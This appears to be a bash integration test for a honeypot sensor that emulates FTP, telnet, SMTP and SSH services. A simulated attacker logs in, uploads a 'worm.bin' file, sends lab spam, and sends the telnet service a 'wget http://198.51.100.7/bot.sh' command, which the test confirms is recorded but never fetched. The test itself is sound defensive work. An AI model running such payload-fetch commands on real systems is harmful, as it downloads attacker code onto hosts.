#!/usr/bin/env bash
# The login services with real clients from the attacker (issue 4):
# curl over FTP (LIST; an upload through PASV whose SHA-256 matches), a
# scripted telnet client that negotiates, logs in and runs commands, an
# SMTP session from nc, ssh -v seeing our banner and KEXINIT, and nmap -sV
# naming the four services.  tests/data/sensor/svc_login.conf has the
# templates: linux (10.10.0.30) and win2k (10.10.0.20).
set -u
. "$(dirname "$0")/lib/common.sh"
. "$(dirname "$0")/lib/sensor.sh"
need_root
need_cmd ip tcpdump tshark nmap nc curl ssh sha256sum
lab_begin

LIN=10.10.0.30
WIN=10.10.0.20

sensor_capture_out
sleep 0.5
sensor_start svc_login.conf || { fail "sensor starts"; finish; exit 1; }
on attacker ping -c 1 -W 3 $LIN >/dev/null 2>&1
on attacker ping -c 1 -W 3 $WIN >/dev/null 2>&1

# --- ftp ---------------------------------------------------------------
out=$(on attacker curl -s -m 10 -u admin:secret123 ftp://$LIN/ 2>&1)
echo "$out" | grep -q " welcome.msg" && ok "curl ftp://$LIN/ (EPSV): LIST shows the fake listing" ||
	fail "curl ftp://$LIN/ LIST: '$out'"
out=$(on attacker curl -s -m 10 --disable-epsv -u anonymous:a@b ftp://$WIN/pub/ 2>&1)
echo "$out" | grep -q "<DIR>          pub" && ok "curl ftp://$WIN/pub/ (PASV): an IIS-style listing" ||
	fail "curl ftp://$WIN/ LIST: '$out'"
on attacker curl -s -m 10 -u root:toor ftp://$WIN/ >/dev/null 2>&1
rc=$?
[ "$rc" -eq 67 ] && ok "curl as root on the IIS template: login denied (curl exit 67)" ||
	fail "curl as root on $WIN: exit $rc, want 67"
head -c 300000 /dev/urandom >"$lab_tmp/upload.bin"
sum=$(sha256sum "$lab_tmp/upload.bin" | cut -d' ' -f1)
on attacker curl -s -m 20 --disable-epsv -u admin:secret123 -T "$lab_tmp/upload.bin" \
	ftp://$LIN/incoming/worm.bin >/dev/null 2>&1
rc=$?
[ "$rc" -eq 0 ] && ok "curl -T through PASV: the server says 226" || fail "curl -T: exit $rc"
sleep 1.5
sensor_service_lines >"$lab_tmp/svc"
check "ftp login event: user, password, success" \
	grep -q "^ftp login user=admin password=secret123 success=true" "$lab_tmp/svc"
check "ftp refused login event" grep -q "^ftp login user=root password=toor success=false" "$lab_tmp/svc"
check "ftp command events (PASV, STOR with its name)" \
	sh -c "grep -q '^ftp command cmd=PASV' '$lab_tmp/svc' && grep -q '^ftp command cmd=STOR arg=worm.bin' '$lab_tmp/svc'"
check "ftp upload event: the path from CWD, and the size" \
	grep -q "^ftp upload name=/incoming/worm.bin size=300000 kept=300000" "$lab_tmp/svc"
sensor_events >"$lab_tmp/events.ndjson"
check "an upload event with the file's SHA-256" \
	grep -q "\"kind\":\"upload\".*\"name\":\"/incoming/worm.bin\".*\"sha256\":\"$sum\"" \
	"$lab_tmp/events.ndjson"
check "the shipper keeps the bytes as uploads/<sha256>" \
	cmp -s "$lab_tmp/upload.bin" "$sensor_dir/spool/uploads/$sum"
check "the data connection is a flow of its own (service ftp-data)" \
	sh -c "grep -q '\"kind\":\"connection\".*\"phase\":\"start\".*\"dst\":\"$LIN\".*\"service\":\"ftp-data\"' '$lab_tmp/events.ndjson'"

# --- telnet: a client that negotiates like telnet(1) ------------------
cat >"$lab_tmp/telnet.py" <<'PY'
import socket, sys, time
host, port, user, pw = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
cmds = sys.argv[5:]
IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
s = socket.create_connection((host, port), timeout=5)
text = b""
opts = []

PROMPTS = ("# ", "$ ", ">")

def seen(until):
    return any(u.encode() in text for u in until)

def pump(until, limit=5.0):
    global text
    if isinstance(until, str):
        until = (until,)
    end = time.time() + limit
    while not seen(until) and time.time() < end:
        try:
            d = s.recv(4096)
        except socket.timeout:
            break
        if not d:
            break
        i = 0
        while i < len(d):
            c = d[i]
            if c == IAC and i + 2 < len(d) + 1 and i + 1 < len(d):
                v = d[i + 1]
                if v in (DO, DONT, WILL, WONT) and i + 2 < len(d):
                    o = d[i + 2]
                    opts.append((v, o))
                    if v == DO:    # we only do terminal type
                        s.send(bytes([IAC, WILL if o == 24 else WONT, o]))
                    elif v == WILL:  # let the server echo and suppress GA
                        s.send(bytes([IAC, DO if o in (1, 3) else DONT, o]))
                    i += 3
                    continue
                if v == SB:
                    j = d.find(bytes([IAC, SE]), i)
                    if d[i + 2] == 24:  # TERMINAL-TYPE SEND
                        s.send(bytes([IAC, SB, 24, 0]) + b"VT100" + bytes([IAC, SE]))
                    i = j + 2
                    continue
                i += 2
                continue
            text += bytes([c])
            i += 1
    return seen(until)

ok = pump("login: ")
s.send(user.encode() + b"\r\n"); ok = ok and pump("assword: ")
s.send(pw.encode() + b"\r\n"); ok = ok and pump(PROMPTS)
for c in cmds:
    text = b""
    s.send(c.encode() + b"\r\n")
    pump(PROMPTS, 2)
    sys.stdout.write(text.decode("latin-1"))
print("\nNEGOTIATED", " ".join("%d:%d" % o for o in opts))
print("LOGGED-IN" if ok else "NO-LOGIN")
PY
out=$(on attacker /usr/bin/python3 "$lab_tmp/telnet.py" $LIN 23 root hunter2 \
	"uname -a" "id" "wget http://198.51.100.7/bot.sh -O /tmp/b" "exit" 2>&1)
echo "$out" | grep -q "LOGGED-IN" && ok "telnet $LIN: login prompt, password prompt, shell prompt" ||
	fail "telnet $LIN: '$out'"
echo "$out" | grep -q "NEGOTIATED 253:24 253:32 253:35 253:39 251:1 251:3" &&
	ok "telnet: netkit's DO TTYPE, TSPEED, XDISPLOC, NEW-ENVIRON, then WILL ECHO, SGA" ||
	fail "telnet negotiation: $(echo "$out" | grep NEGOTIATED)"
echo "$out" | grep -q "Linux lin" && echo "$out" | grep -q "uid=0(root)" &&
	ok "telnet: uname -a and id are answered" || fail "telnet commands: '$out'"
out=$(on attacker /usr/bin/python3 "$lab_tmp/telnet.py" $WIN 23 Administrator pw "ver" 2>&1)
echo "$out" | grep -q "Microsoft Windows 2000 \[Version 5.00.2195\]" &&
	ok "telnet $WIN: Microsoft Telnet, ver answered" || fail "telnet $WIN: '$out'"
sleep 1.5
sensor_service_lines >"$lab_tmp/svc"
check "telnet login event with the terminal type" \
	grep -q "^telnet login user=root password=hunter2 success=true term=VT100" "$lab_tmp/svc"
check "telnet command events" grep -q "^telnet command command=uname -a program=uname" "$lab_tmp/svc"
check "wget's URL is recorded (and never fetched)" \
	grep -q "^telnet command .*program=wget url=http://198.51.100.7/bot.sh" "$lab_tmp/svc"

# --- smtp: a spam run from nc -----------------------------------------
printf 'Subject: lab spam\r\n\r\n.hello from the lab\r\n' >"$lab_tmp/msg.eml"
msum=$(sha256sum "$lab_tmp/msg.eml" | cut -d' ' -f1)
out=$(printf 'EHLO spammer.example\r\nAUTH PLAIN AHNwYW0Ac3BhbTEyMw==\r\nMAIL FROM:<spam@example.org>\r\nRCPT TO:<victim1@example.com>\r\nRCPT TO:<victim2@example.net>\r\nDATA\r\nSubject: lab spam\r\n\r\n..hello from the lab\r\n.\r\nQUIT\r\n' |
	on attacker nc -q 3 -w 5 $LIN 25 2>&1)
echo "$out" | head -1 | grep -q "^220 linux.localdomain ESMTP Postfix" && ok "smtp $LIN: Postfix banner" ||
	fail "smtp banner: '$(echo "$out" | head -1)'"
echo "$out" | grep -q "^250 2.0.0 Ok: queued as" && echo "$out" | grep -q "^221 " &&
	ok "smtp: message queued, QUIT answered" || fail "smtp session: '$out'"
out=$(printf 'HELO x\r\nQUIT\r\n' | on attacker nc -q 2 -w 5 $WIN 25 2>&1)
echo "$out" | head -1 | grep -q "Microsoft ESMTP MAIL Service, Version: 5.0.2195.6713" &&
	ok "smtp $WIN: Exchange banner" || fail "smtp $WIN: '$out'"
sleep 1.5
sensor_service_lines >"$lab_tmp/svc"
check "smtp helo event" grep -q "^smtp helo verb=EHLO name=spammer.example" "$lab_tmp/svc"
check "smtp AUTH PLAIN recorded as a login" \
	grep -q "^smtp login mech=PLAIN user=spam password=spam123 success=false" "$lab_tmp/svc"
check "smtp mail event: from, recipients, subject" \
	grep -q "^smtp mail from=spam@example.org rcpt=victim1@example.com,victim2@example.net nrcpt=2 size=.* subject=lab spam" "$lab_tmp/svc"
sensor_events >"$lab_tmp/events.ndjson"
check "the message is an upload (dot-unstuffed) with its SHA-256" \
	sh -c "grep -q '\"kind\":\"upload\".*\"name\":\"message.eml\".*\"sha256\":\"$msum\"' '$lab_tmp/events.ndjson'"

# --- ssh -v --------------------------------------------------------------
out=$(on attacker ssh -v -o BatchMode=yes -o StrictHostKeyChecking=no \
	-o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 root@$LIN true 2>&1)
echo "$out" | grep -q "remote software version OpenSSH_5.3" && ok "ssh -v sees our banner (OpenSSH_5.3)" ||
	fail "ssh -v: no banner: '$(echo "$out" | tail -5)'"
echo "$out" | grep -q "SSH2_MSG_KEXINIT received" && ok "ssh -v: our KEXINIT received" ||
	fail "ssh -v: no KEXINIT: '$(echo "$out" | tail -5)'"
echo "     (ssh: $(echo "$out" | grep -E 'kex: algorithm|no matching|Connection closed' | head -2 | tr '\n' ' '))"
sleep 1.5
sensor_service_lines >"$lab_tmp/svc"
check "ssh banner event: the client's software and version" \
	grep -q "^ssh banner proto=2.0 software=OpenSSH_.* product=OpenSSH version=[0-9]" "$lab_tmp/svc"
check "ssh kexinit event: the client's algorithms and HASSH" \
	sh -c "grep '^ssh kexinit ' '$lab_tmp/svc' | grep -q 'kex=.*curve25519-sha256.* hostkey=.* ciphers=.*aes.* macs=.* compression=none.* hassh=[0-9a-f]\{32\}'"

# --- nmap -sV --------------------------------------------------------------
for host in $LIN $WIN; do
	out=$(on attacker nmap -n -Pn -sV --version-light -p21,22,23,25 $host 2>/dev/null)
	echo "$out" | grep -E "^[0-9]+/tcp" | sed "s/^/     ($host) /"
	want="ftp telnet smtp"
	[ $host = $LIN ] && want="ftp ssh telnet smtp"
	for s in $want; do
		echo "$out" | grep -Eq "^[0-9]+/tcp +open +$s " && ok "nmap -sV $host: $s" ||
			fail "nmap -sV $host: no open $s"
	done
done

sensor_stop
[ "$sensor_rc" -eq 0 ] && ok "clean exit" || fail "exit $sensor_rc"
sensor_captures_end
# Passive mode never made the sensor connect anywhere.
sensor_check_no_syn_out
finish
